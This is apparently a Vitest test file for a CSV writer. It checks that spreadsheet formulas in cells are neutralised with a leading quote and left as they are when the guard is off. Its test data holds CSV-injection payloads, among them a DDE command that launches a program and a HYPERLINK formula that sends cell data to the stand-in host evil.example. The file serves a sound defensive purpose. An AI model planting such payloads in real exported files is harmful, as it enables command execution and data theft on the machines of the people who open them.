import { expect, test } from 'vitest'
import { writeCsv } from './write-csv.ts'

const formulas = [
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=HYPERLINK("http://evil.example?" & A1, "x")',
]

/** The first cell of the first line, as a reader of the format has it. */
function firstCell(csv: string): string {
  const quoted = /^"((?:[^"]|"")*)"/.exec(csv)
  if (quoted !== null) return (quoted[1] ?? '').replaceAll('""', '"')
  return csv.split(/[,\r\n]/, 1)[0] ?? ''
}

test.for(formulas)('%j is text to a spreadsheet', (formula) => {
  expect(firstCell(writeCsv([[formula, 1]]))).toBe(`'${formula}`)
})

test.for(formulas)('guard off: %j would be run', (formula) => {
  expect(firstCell(writeCsv([[formula, 1]], { isGuarded: false }))).toBe(formula)
})

test('what has commas, quotes and lines in it stays one cell; numbers and nothing are as they are', () => {
  expect(writeCsv([['a,b', 'say "so"', 'two\nlines', -5, null, true]])).toBe(
    '"a,b","say ""so""","two\nlines",-5,,1\r\n',
  )
})
